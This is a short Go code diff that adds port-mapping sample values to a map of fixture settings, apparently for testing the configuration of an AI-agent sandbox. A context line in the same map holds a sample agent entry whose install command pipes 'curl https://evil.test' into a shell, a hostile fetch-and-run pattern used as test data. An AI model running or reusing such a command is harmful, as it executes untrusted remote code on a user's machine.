@@ -28,6 +28,7 @@ var sampleValues = map[string]string{
 	"agent_credentials": `"forwarded"`, "claude_install": `"npm"`, "hold_denied": `"5m"`,
 	"agents":        `{ evil = { command = ["evil"], install = "curl https://evil.test | sh" } }`,
 	"egress_groups": `["code-hosts"]`, "learn_for": `"2h"`,
+	"ports": `["80:80", "3000"]`, "low_host_ports": "true",
 }
 
 // foldVariants returns spellings of name that a case-insensitive,
